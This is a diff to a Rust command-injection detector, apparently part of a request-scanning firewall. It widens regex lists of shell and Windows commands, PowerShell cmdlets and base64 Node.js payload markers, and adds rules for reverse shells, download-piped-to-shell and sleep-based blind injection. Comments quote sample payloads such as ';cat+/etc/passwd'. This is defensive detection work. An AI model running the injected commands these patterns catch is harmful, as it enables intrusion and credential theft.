@@ -37,10 +37,57 @@ pub(crate) struct Cmdi {
 /// High anywhere.
 const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsole\s*(?:\.\s*[a-z]+|\[\s*['`][a-z]+['`]\s*\])\s*(?:\.\s*call\s*)?\(|\bfunction\s*\(\s*\)\s*\{|process\s*\.\s*env\b|\brequire\s*\(\s*['`\x22]|\bprocess\s*\.\s*(?:exit|kill|abort|dlopen|chdir|setuid|setgid|umask|cwd)\s*\(|\bprocess\s*\.\s*(?:argv|execargv|execpath)\b|\bthis\s*\.\s*constructor\b|\bvm\s*\.\s*run(?:in(?:new|this)?context)?\s*\(|\bglobal(?:this)?\s*(?:\.\s*process\b|\[\s*['`\x22]process)";
 
-/// Commands that are an attack after a separator when an argument shape follows (also what the
-/// PHP check looks for in `system(...)`). The Windows administration tools among them (`icacls`,
+/// Commands that are an attack after a separator when an argument shape follows, together with
+/// [`TOOLS`] (see [`strong_commands`]). The Windows administration tools among them (`icacls`,
 /// `vssadmin`, `wevtutil`, ...) are no word of English or of any other program.
-pub(crate) const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d{1,2}(?::\d\d)?(?:\s*[ap]m)?|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount|hostname|netstat|lsof|arp|mysql|psql|sqlite3|node|npm|npx|jrunscript|tclsh|hexdump|useradd|usermod|groupadd|chattr|lsb_release|sendmail|printf|uniq|tac|wc|od|df|du|ip|bc|xz|7z|7za|jq|ln|apt(?:-get)?|yum|dnf|rpm|dpkg|lsblk|lscpu|lspci|lsusb|lsmod|modprobe|insmod|rmmod|iptables|tcpdump|tshark|ldd|objdump|readelf|uptime|vmstat|iostat|dmesg|journalctl|chroot|chpasswd|getent|pwd|printenv|whereis|basename|dirname|readlink|realpath|mktemp|mkdir|rmdir|shred|md5sum|sha1sum|sha256sum|base32|zcat|zgrep|bzip2|bunzip2|gunzip|unxz|unrar|cpio|renice|tmux|doas|pkexec|runuser|setsid|unshare|nsenter|capsh|setcap|getcap|xterm|nano|emacs|lynx|w3m|aria2c|sftp|smbclient|rlogin|rsh|whois|traceroute|arping|hping3|masscan|sqlmap|msfconsole|msfvenom|icacls|cacls|takeown|vssadmin|wevtutil|wbadmin|esentutl|ntdsutil|nltest|dsquery|diskpart|fsutil|cmdkey|certreq|setx|robocopy|xcopy|makecab|mofcomp|pnputil|driverquery|gpresult|nbtstat|tracert|pathping|quser|qwinsta|winrm|winrs|dnscmd|attrib|wusa|dism|sdbinst|cmstp|msbuild|installutil|regasm|regsvcs|odbcconf|ieexec|presentationhost|msdt)";
+const STRONG: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|irb|nslookup|dig|ping|passwd|shutdown|reboot|nohup|strace|ltrace|gdb|vim?|ex|gcc|c89|c99|cc|rmt|perf|pipx?|pip3|ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|cpulimit|flock|visudo|ssh-copy-id|uconv|lwp-(?:download|request)|tftp|mkfifo|chmod|chown|crontab|sudo|base64|xxd|powershell|pwsh|cmd|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|regedit|netsh|tasklist|taskkill|systeminfo|schtasks|bcdboot|bcdedit|cscript|wscript|msiexec|forfiles|nmap|env|top|id|rc|ll|systemctl|dd|awk|sed|xargs|busybox|timeout|time|sleep|net1?\s+(?:user|localgroup|view|use|share)|reg\s+(?:add|query|delete|save)|at\s+\d{1,2}(?::\d\d)?(?:\s*[ap]m)?|echo|cat|ls|rm|cp|mv|touch|kill|pkill|killall|ps|find|grep|head|tail|more|less|cut|sort|tr|tee|tar|zip|unzip|gzip|date|file|stat|type|dir|del|copy|set|export|unset|alias|source|exec|eval|git|docker|kubectl|openssl|ssh|scp|ftp|rsync|mount|hostname|netstat|lsof|arp|mysql|psql|sqlite3|node|npm|npx|jrunscript|tclsh|hexdump|useradd|usermod|groupadd|chattr|lsb_release|sendmail|printf|uniq|tac|wc|od|df|du|ip(?:\s+(?:a|addr|address|r|route|link|neigh|n))?|ps(?:\s+-?(?:aux|axu|ef|elf|ax))?|bc|xz|7z|7za|jq|ln|apt(?:-get)?|yum|dnf|rpm|dpkg|lsblk|lscpu|lspci|lsusb|lsmod|modprobe|insmod|rmmod|iptables|tcpdump|tshark|ldd|objdump|readelf|uptime|vmstat|iostat|dmesg|journalctl|chroot|chpasswd|getent|pwd|printenv|whereis|basename|dirname|readlink|realpath|mktemp|mkdir|rmdir|shred|md5sum|sha1sum|sha256sum|base32|zcat|zgrep|bzip2|bunzip2|gunzip|unxz|unrar|cpio|renice|tmux|doas|pkexec|runuser|setsid|unshare|nsenter|capsh|setcap|getcap|xterm|nano|emacs|lynx|w3m|aria2c|sftp|smbclient|rlogin|rsh|whois|traceroute|arping|hping3|masscan|sqlmap|msfconsole|msfvenom|icacls|cacls|takeown|vssadmin|wevtutil|wbadmin|esentutl|ntdsutil|nltest|dsquery|diskpart|fsutil|cmdkey|certreq|setx|robocopy|xcopy|makecab|mofcomp|pnputil|driverquery|gpresult|nbtstat|tracert|pathping|quser|qwinsta|winrm|winrs|dnscmd|attrib|wusa|dism|sdbinst|cmstp|msbuild|installutil|regasm|regsvcs|odbcconf|ieexec|presentationhost|msdt)";
+
+/// More programs, Unix and Windows, whose names are no word of prose (`bzcat`, `sshpass`,
+/// `sysctl`, `findstr`, `mklink`, `auditpol`): after a separator with an argument shape they are a
+/// command line like any of [`STRONG`]. Sorted; also gate words.
+const TOOLS: &[&str] = &[
+    "7zr", "7zx", "adduser", "agetty", "appcmd", "aptitude", "arj", "ascii85", "aspell", "assoc", "auditpol", "aws",
+    "basenc", "bdehdcfg", "bginfo", "bootcfg", "bpftrace", "bsdcat", "bsdtar", "busctl", "byebug", "bzcat", "bzcmp",
+    "bzdiff", "bzegrep", "bzfgrep", "bzgrep", "bzless", "bzmore", "certbot", "chcp", "chflags", "chgrp", "chkdsk",
+    "chsh", "cleanmgr", "cmdl32", "cobc", "composer", "conhost", "coproc", "cowsay", "cpan", "cpanm", "csc",
+    "csplit", "csvde", "csvtool", "cupsfilter", "defrag", "deno", "dhclient", "diskcopy", "diskshadow", "dmidecode",
+    "dmsetup", "dosbox", "doskey", "dsacls", "dsadd", "dsget", "dsmod", "dsrm", "dvips", "easy_install", "egrep",
+    "eventcreate", "eventvwr", "exiftool", "facter", "fgrep", "findstr", "fping", "ftpwho", "ftype", "gawk",
+    "gcloud", "gcore", "gem", "genisoimage", "getfacl", "getmac", "ghc", "ghci", "ginsh", "gpg", "gpg2", "gpupdate",
+    "groovy", "groupdel", "gtester", "gzcat", "gzexe", "helm", "hh", "htdigest", "htpasswd", "iconv", "iftop",
+    "iisreset", "ionice", "ip6tables", "ispell", "jexec", "jjs", "jsc", "jshell", "klist", "knife", "ksetup",
+    "ksshell", "ktpass", "lastcomm", "lastlog", "ldconfig", "ldifde", "lessecho", "lesspipe", "lftp", "lftpget",
+    "lodctr", "loginctl", "logman", "logsave", "lshw", "lualatex", "luatex", "lwp-dump", "lwp-mirror", "lz4",
+    "lzcat", "lzless", "lzma", "mailq", "mailx", "manage-bde", "mawk", "mklink", "mlocate", "mmc", "mosquitto",
+    "mountvol", "msinfo32", "mstsc", "msxsl", "mtr", "mutt", "mysqladmin", "mysqldump", "mysqlshow", "nasm", "nawk",
+    "neofetch", "netdom", "nodejs", "nping", "nroff", "nstat", "ntbackup", "openfiles", "openvpn", "openvt", "opkg",
+    "osql", "pacman", "pcalua", "pdb", "pdflatex", "pdftex", "perfmon", "perl5", "perlsh", "pftp", "pgrep",
+    "php-cgi", "pidstat", "pigz", "pktmon", "popd", "powershell_ise", "psftp", "ptar", "puppet", "pushd", "pypy",
+    "qprocess", "raku", "rdpsign", "regini", "relog", "repadmin", "restic", "rexec", "rlwrap", "rmuser", "rnano",
+    "rpcping", "rpmdb", "rpmquery", "rpmverify", "run-mailcap", "run-parts", "rview", "rvim", "rwinsta",
+    "scriptrunner", "secedit", "setarch", "setfacl", "sfc", "shuf", "slsh", "soelim", "sqlcmd", "ssh-keygen",
+    "ssh-keyscan", "sshpass", "start-stop-daemon", "stdbuf", "subst", "svn", "sxstrace", "sysctl", "systemd-resolve",
+    "systemd-run", "tailf", "taskset", "tcping", "tcptraceroute", "timedatectl", "tpmtool", "traceroute6",
+    "tracerpt", "troff", "tscon", "tsdiscon", "tskill", "typeperf", "tzutil", "unlz4", "unlzma", "unpigz", "unzstd",
+    "update-alternatives", "userdel", "uudecode", "uuencode", "valgrind", "vbc", "vigr", "vimdiff", "vipw", "virsh",
+    "waitfor", "wdsutil", "wecutil", "winnt32", "wireshark", "wsl", "xelatex", "xetex", "xmodmap", "xzcat", "xzdec",
+    "xzgrep", "xzless", "yarn", "zathura", "zipdetails", "zsoelim", "zstd", "zypper",
+];
+
+/// The alternation of every command that counts after a separator with an argument shape:
+/// [`STRONG`] and [`TOOLS`] (also what the PHP check looks for in `system(...)`).
+pub(crate) fn strong_commands() -> String {
+    format!("(?:{STRONG}|{})", TOOLS.join("|"))
+}
+
+/// Programs whose names are also words of English (`make`, `screen`, `patch`, `tree`, `su`):
+/// after a separator they count only with an option, a path or a redirection right after them
+/// (`;make -C /tmp`, `&tree c:\ /f`), which prose does not put there.
+const WORD_TOOLS: &[&str] = &[
+    "arch", "batch", "cipher", "column", "compress", "convert", "diff", "expand", "fc", "fetch", "finger",
+    "go", "history", "install", "jobs", "join", "links", "locate", "look", "make", "move", "paste", "patch", "pax", "rename",
+    "replace", "screen", "script", "service", "snap", "split", "ss", "su", "task", "tree", "wall", "watch",
+];
 
 /// A value that starts with a configuration-management console or CLI (`ansible-console`,
 /// `chef-shell`, `cscli alerts list`).
@@ -55,6 +102,19 @@ fn is_automation_tool(word: &[u8]) -> bool {
     let starts = |p: &[u8]| word.len() > p.len() && word[..p.len()].eq_ignore_ascii_case(p);
     starts(b"ansible-") || starts(b"chef-") || word.eq_ignore_ascii_case(b"cscli")
 }
+
+/// Commands an attacker sends alone as a whole value to see whether it is run (`cmd=whoami`): they
+/// print who and where the server is, and no value of an API's own is one of them.
+const PROBES: &[&str] = &["ifconfig", "ipconfig", "systeminfo", "uname", "whoami"];
+
+/// Whether a word is one of [`PROBES`] (`.exe` allowed).
+fn is_probe(word: &[u8]) -> bool {
+    let w = word.strip_suffix(b".exe").or_else(|| word.strip_suffix(b".EXE")).unwrap_or(word);
+    PROBES.iter().any(|p| w.eq_ignore_ascii_case(p.as_bytes()))
+}
+
+/// PowerShell cmdlets that run code, fetch, or read and change the system. A regex.
+const POWERSHELL_CMDLETS: &str = "invoke-(?:expression|webrequest|restmethod|command|item|wmimethod|shellcode|mimikatz)|start-(?:process|job|bitstransfer)|new-(?:object|service|itemproperty|localuser|scheduledtask(?:action)?)|get-(?:process|childitem|content|item|service|wmiobject|ciminstance|localuser|localgroupmember|aduser|adcomputer|acl|credential|clipboard|itemproperty|nettcpconnection)|set-(?:executionpolicy|mppreference|itemproperty|content|acl)|add-(?:mppreference|type|localgroupmember)|remove-(?:item|itemproperty|mppreference)|out-file|copy-item|move-item|stop-(?:process|service)|register-scheduledtask|convertto-securestring";
 
 /// Commands that are an attack after a separator whatever their arguments.
 const DANGEROUS: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|netcat|socat|telnet|bash|sh|zsh|ksh|python[23]?|perl|ruby|php|nslookup|ping|powershell|pwsh|certutil|mshta|regsvr32|rundll32|bitsadmin|wmic|systeminfo|lwp-download|tftp|ssh-copy-id|cmd)";
@@ -103,7 +163,7 @@ fn command_word<'b>(b: &[u8], mut i: usize, buf: &'b mut [u8; 24]) -> &'b [u8] {
         let c = b[i];
         read += 1;
         match c {
-            b'\'' | b'"' | b'\\' => i += 1,
+            b'\'' | b'"' | b'\\' | b'^' => i += 1,
             b'$' if matches!(b.get(i + 1), Some(b'@' | b'*' | b'!' | b'_' | b'0'..=b'9')) => i += 2,
             b'$' if b.get(i + 1) == Some(&b'{') && b.get(i + 2) == Some(&b'}') => i += 3,
             b'$' | b'`' if empty_substitution(b, i) > 0 => i += empty_substitution(b, i),
@@ -149,7 +209,7 @@ fn hides_command(b: &[u8], i: usize) -> bool {
                 return w.len() >= 3 && is_command(w);
             }
             letters_before = true;
-        } else if matches!(c, b'\'' | b'"' | b'\\' | b'$') && letters_before {
+        } else if matches!(c, b'\'' | b'"' | b'\\' | b'$' | b'^') && letters_before {
             evasion = true;
         }
         k += 1;
@@ -194,7 +254,7 @@ fn command_follows(b: &[u8], _s: usize, e: usize) -> bool {
 /// A known command, also as the head of a hyphenated tool name (`ansible-config`, `chef-client`).
 fn is_command(w: &[u8]) -> bool {
     let w = w.strip_suffix(b".exe").unwrap_or(w);
-    in_sorted(COMMANDS, w) || w.iter().position(|&c| c == b'-').is_some_and(|p| p > 1 && in_sorted(COMMANDS, &w[..p]))
+    in_sorted(COMMANDS, w) || in_sorted(TOOLS, w) || in_sorted(WORD_TOOLS, w) || w.iter().position(|&c| c == b'-').is_some_and(|p| p > 1 && in_sorted(COMMANDS, &w[..p]))
 }
 
 /// Gate for `{`: a command follows, or a brace list (`{cat,/etc/passwd}`, `{l,-lh}s`).
@@ -209,13 +269,15 @@ fn is_imap_tag(w: &[u8]) -> bool {
 }
 
 /// The markers of Node.js deserialization and child-process payloads (`_$$ND_FUNC$$_`,
-/// `__js_function`, `child_process`) as they read inside base64 at each of the three byte
+/// `__js_function`, `child_process`, `process.mainModule`, `eval(String.fromCharCode`) as they read inside base64 at each of the three byte
 /// alignments, lower-cased like the matching form: only the characters that depend on the marker
 /// alone are kept. Payloads are smuggled this way in cookies and tokens the application decodes.
 const BASE64_MARKERS: &[&str] = &[
     "xyqktkrfrlvoqyqkx", "8kje5ex0zvtkmkjf", "fjcrorf9gvu5djcrf",
     "x19qc19mdw5jdglvb", "9fannfznvuy3rpb2", "fx2pzx2z1bmn0aw9u",
     "y2hpbgrfchjvy2vzc", "noawxkx3byb2nlc3", "jaglszf9wcm9jzxnz",
+    "chjvy2vzcy5tywlutw9kdwxl", "byb2nlc3mubwfpbk1vzhvsz", "wcm9jzxnzlm1haw5nb2r1bg",
+    "zxzhbchtdhjpbmcuznjvbunoyxjdb2rl", "v2ywwou3ryaw5nlmzyb21dagfyq29kz", "ldmfskfn0cmluzy5mcm9tq2hhcknvzg",
 ];
 
 /// Commands that run the command after them (`nohup ifconfig`, `sudo -u x id`).
@@ -329,25 +391,26 @@ fn substring_expansion(b: &[u8], _s: usize, e: usize) -> bool {
     b.get(e + name) == Some(&b':') && b.get(e + name + 1).is_some_and(|&c| c.is_ascii_digit() || c == b'-')
 }
 
-/// Gate for Node.js `process`: a member that reaches the runtime follows.
+/// Gate for Node.js `process`: a member that reaches the runtime follows (also past spaces).
 fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
-    matches!(b.get(e), Some(b'.' | b'['))
+    matches!(b.get(skip_space(b, e)), Some(b'.' | b'['))
 }
 
 impl Cmdi {
     pub fn new() -> Result<Cmdi, String> {
+        let strong = strong_commands();
         // An argument shape: option (also after a subcommand: `install -y`), path (also `C:\`),
         // variable, redirection, glob, or end of the value. A `+`
         // separates words where the value is URL-encoded form data (`;cat+/etc/passwd`).
         // `ends` are the separators that may close the command (`;id;`, `|id|`).
-        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+[a-z]:[\\/]|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
+        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+(?:[^\s;|&/<>]+[\s+]+){{1,3}}/[a-z?]{{1,12}}(?::\S*)?(?:[\s+]|$)|[\s+]+hk(?:lm|cu|cr|u|cc|ey_[a-z_]+)[\\:]|[\s+]+(?:[0-7]{{3,4}}|[ugoa]*[-+=][rwxst]+)[\s+]+\S|[\s+]+(?:install|add|remove|uninstall|run|exec|require|upgrade|apply)[\s+]+[a-z0-9@/._-]+(?:[\s+]*[;|&]|[\s+]+-|[\s+]*$)|[\s+]+[a-z]:[\\/]|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
         let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
         // A line break separates commands in a script, but also the lines of a document, a log
         // or a stack trace (`\n  File "/app/main.py", line 3`): in a JSON text field a command
         // word opening a line is only Medium; `;`, `|`, `&&` and `$(` inside a line stay strong.
-        let command_after = |sep: &str, arg: &str| format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\b{arg}");
+        let command_after = |sep: &str, arg: &str| format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{arg}");
         // Between two pipes, words are a table's cell (`| date |`, `| file size |`), so a command
         // after a pipe needs an argument shape of its own.
         let strong_after_sep = format!("{}|{}", command_after(r"(?:;|&&|&|\$\(|<\(|\|\|)", &arg("|;&")), command_after(r"\|", &arg(";&")));
@@ -356,13 +419,13 @@ impl Cmdi {
         let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
         // `x ;top`, `;ls`: a separator glued to the command after it but not to the word before
         // it is how a shell line is typed; prose puts the space after the punctuation.
-        let glued = format!(r"(?:^|\s)(?:;|&&|\|\|?)(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?(?:\s|$)");
-        let start_redirect = format!(r#"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\s*(?:<<<|<|>>?)\s*[/~$"']"#);
-        let ansi_c = format!(r"\$\{{[a-z_][a-z0-9_]*:-?\d+(?::-?\d+)?\}}|\$'(?:\\[0-7]{{1,3}})+'|(?:^|[\s;|&(`])\$'\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})\b");
+        let glued = format!(r"(?:^|\s)(?:;|&&|\|\|?)(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?(?:\s|$)");
+        let start_redirect = format!(r#"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\s*(?:<<<|<|>>?)\s*[/~$"']"#);
+        let ansi_c = format!(r"\$\{{[a-z_][a-z0-9_]*:-?\d+(?::-?\d+)?\}}|\$'(?:\\[0-7]{{1,3}})+'|(?:^|[\s;|&(`])\$'\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b");
         let start_then_sep = format!(r"^\s*(?:{DANGEROUS})(?:\.exe)?\s*(?:[;|]|&&)");
-        let start_cmd = format!(r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})(?:\.exe)?\s+(?:-[a-z-]|/[a-z.]|[a-z0-9_.-]+\.(?:sh|sql|zip|gz|txt|yml|py|pl|rb|exe|bat)\b|-c\b|install\b|all\b|report\b|dump\b|decrypt\b|[a-z]+\s+-)");
+        let start_cmd = format!(r"^\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\s+(?:-[a-z-]|/[a-z.]|[a-z0-9_.-]+\.(?:sh|sql|zip|gz|txt|yml|py|pl|rb|exe|bat)\b|-c\b|install\b|all\b|report\b|dump\b|decrypt\b|[a-z]+\s+-)");
         // `$(` runs a command only when a command follows: `$(document)` is jQuery.
-        let substitution = format!(r"\$\(\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG})\b[^)]*\)|(?:^|[^\s`])`\s*(?:/bin/)?(?:whoami|id|uname|cat|ls|sleep|ping|nslookup|curl|wget|sh|bash|echo|dig|cut|ifconfig)\b[^`]*`");
+        let substitution = format!(r"\$\(\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b[^)]*\)|(?:^|[^\s`])`\s*(?:/bin/)?(?:whoami|id|uname|cat|ls|sleep|ping|nslookup|curl|wget|sh|bash|echo|dig|cut|ifconfig)\b[^`]*`");
         let base64_js = BASE64_MARKERS.join("|");
         let shell_escape = format!(r"(?:^|[\s:;|\\])!\s*(?:{DANGEROUS})\b");
         // A brace list the shell expands into a command line: a command and an argument shaped
@@ -371,8 +434,17 @@ impl Cmdi {
         // `{id,}`), or a list inside a word (`c{a,oun}t`). Lists of names (`fetch_{add,sub}`,
         // `const {id,name} =`, `use serde::{Serialize,Deserialize}`, `*.{js,ts}`) are code.
         let brace_expansion = format!(
-            r"\{{(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{STRONG}),(?:[^\s{{}},]*,)*[^\s{{}},]*[/.$~-][^\s{{}}]*\}}|\{{[a-z]*,(?:[a-z0-9]*,)*-[a-z0-9-]*(?:,[^\s{{}},]*)*\}}|\{{,[a-z0-9./-]+(?:,[a-z0-9./-]*)*\}}|\{{[a-z0-9./-]+(?:,[a-z0-9./-]+)*,\}}|[a-z]\{{[a-z0-9]*,[a-z0-9]*(?:,[a-z0-9]*)*\}}[a-z]"
+            r"\{{(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong}),(?:[^\s{{}},]*,)*[^\s{{}},]*[/.$~-][^\s{{}}]*\}}|\{{[a-z]*,(?:[a-z0-9]*,)*-[a-z0-9-]*(?:,[^\s{{}},]*)*\}}|\{{,[a-z0-9./-]+(?:,[a-z0-9./-]*)*\}}|\{{[a-z0-9./-]+(?:,[a-z0-9./-]+)*,\}}|[a-z]\{{[a-z0-9]*,[a-z0-9]*(?:,[a-z0-9]*)*\}}[a-z]"
         );
+        // `;make -C /tmp`, `&tree c:\ /f`: an English word that names a program, with an option,
+        // a path or a redirection right after it.
+        let word_tool = format!(r"(?:;|&&|&|\||\$\(|`)\s*(?:{})\s+(?:--?[a-z]|/[a-z]|[<>]|[a-z]:\\)", WORD_TOOLS.join("|"));
+        // `; sleep 5`, `& timeout /t 5`, `| ping -n 5 x`: a delay that answers a blind injection,
+        // the number closing the command.
+        let delay = format!(r"{sep}\s*(?:sleep\s+\d+(?:\.\d+)?[smhd]?|timeout\s+/t\s+\d+)\s*(?:$|[;|&#`)])");
+        // PowerShell cmdlets that run, fetch or reach the system (`Invoke-Expression`,
+        // `Get-ChildItem`, `New-Object Net.WebClient`), and `iex`/`iwr` in their code shapes.
+        let powershell = format!(r"(?:^|{sep}|`)\s*(?:{POWERSHELL_CMDLETS})\b|\|\s*iex\b|\biex\s*\(\s*(?:new-object|iwr|irm|invoke-|\(|\[|\$)|\b(?:iwr|irm)\s+(?:-uri\s+)?https?://");
         let sqlite = format!(r"(?:^|[;\n])\s*\.(?:{})\b", SQLITE_DOT_COMMANDS.join("|"));
         let table = [
             (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
@@ -382,7 +454,7 @@ impl Cmdi {
             // `0>&1` ties the shell's input to its output socket; `2>&1` is every script's stderr.
             (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|(?:^|[^0-9])0>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
-            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*\.\s*constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b)", High, 0.85, "server-side JavaScript code injection"),
+            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*(?:\.\s*|\[\s*['`\x22])constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b|\bfunction\s*\(\s*['`\x22][^'`\x22]*['`\x22]\s*\)\s*\(|\breflect\s*\.\s*(?:construct|apply)\s*\(\s*(?:function|eval)\b|\b(?:exec|execfile|spawn)sync\s*\()", High, 0.85, "server-side JavaScript code injection"),
             (JS_CODE, Medium, 0.6, "JavaScript code"),
             (r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b", Critical, 0.9, "server-side include"),
             (r#"\bfor\s+(?:/[a-z]\s+)*(?:(?:["'][^"']*["']|[a-z]:\\\S*)\s+)?%%?\S+\s+in\s*\(.*\)\s*do\b"#, High, 0.85, "Windows batch FOR loop"),
@@ -391,12 +463,13 @@ impl Cmdi {
             (strong_on_a_line.as_str(), Medium, 0.6, "command word opening a line of text"),
             (any_after_sep.as_str(), Critical, 0.9, "dangerous command after a shell separator"),
             (wrapped.as_str(), High, 0.85, "command run through a wrapper"),
+            (word_tool.as_str(), High, 0.8, "program named by a word, with arguments, after a shell separator"),
             (glued.as_str(), High, 0.8, "command glued to a shell separator"),
             (start_then_sep.as_str(), High, 0.8, "command line"),
             (r"(?:^|[;&|\s])[a-z_][a-z0-9_]*=[^\s;&|]*\s*(?:[;|\n]|&&|\|\|)(?:.*(?:[;|\n]|&&|\|\|))?\s*\$\{?[a-z_][a-z0-9_]*\}?(?:\s|$)", High, 0.8, "command from an assigned variable"),
-            (r"(?:^|[\s;|&=<>(`+])/(?:(?:[a-z0-9]+[?*]|\*?\?|\*+[a-z0-9])[a-z0-9?*]*/[a-z0-9?*]+|(?:s?bin|usr|etc|dev|proc|tmp|var|home|root)/(?:[a-z0-9]+[?*]|[?*]+[a-z0-9])[a-z0-9?*]*(?:[\s/;|]|$))", High, 0.8, "wildcards in a system path"),
+            (r"(?:^|[\s;|&=<>(`+])(?:/usr(?:/local)?)?/(?:(?:[a-z0-9]+[?*]|\*?\?|\*+[a-z0-9])[a-z0-9?*]*/[a-z0-9?*]+|(?:s?bin|usr|etc|dev|proc|tmp|var|home|root)/(?:[a-z0-9]+[?*]|[?*]+[a-z0-9])[a-z0-9?*]*(?:[\s/;|]|$))", High, 0.8, "wildcards in a system path"),
             (substitution.as_str(), Critical, 0.85, "command substitution"),
-            (r"(?:^|\s)(?:ba|z|k)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|nop|w|command|exec)", High, 0.85, "shell invoked with a command"),
+            (r"(?:^|\s)(?:ba|z|k)?sh\s+-c\b|\bcmd(?:\.exe)?\s+/[ck]\b|%comspec%\s*/[ck]\b|\bpowershell(?:\.exe)?\s+-(?:c|e|enc|nop|w|command|exec)", High, 0.85, "shell invoked with a command"),
             (start_cmd.as_str(), High, 0.7, "command line"),
             (start_redirect.as_str(), High, 0.8, "command line with a redirection"),
             // A value that starts with a program in a system binary directory and its arguments.
@@ -412,7 +485,10 @@ impl Cmdi {
             (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[", High, 0.8, "Perl interpolation"),
             (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*(?:helo|ehlo|vrfy|expn)\s+[a-z0-9<@.-]|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:authenticate|uid|login|expunge|lsub|capability|logout|starttls|getquota|getquotaroot|setquota|getacl|setacl|myrights|listrights)\b|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|select|examine|fetch|store)\s+[^\r\n]*?(?:\binbox\b|[({\x22\\]|\d:|[+-]flags)", High, 0.75, "SMTP/IMAP command injection"),
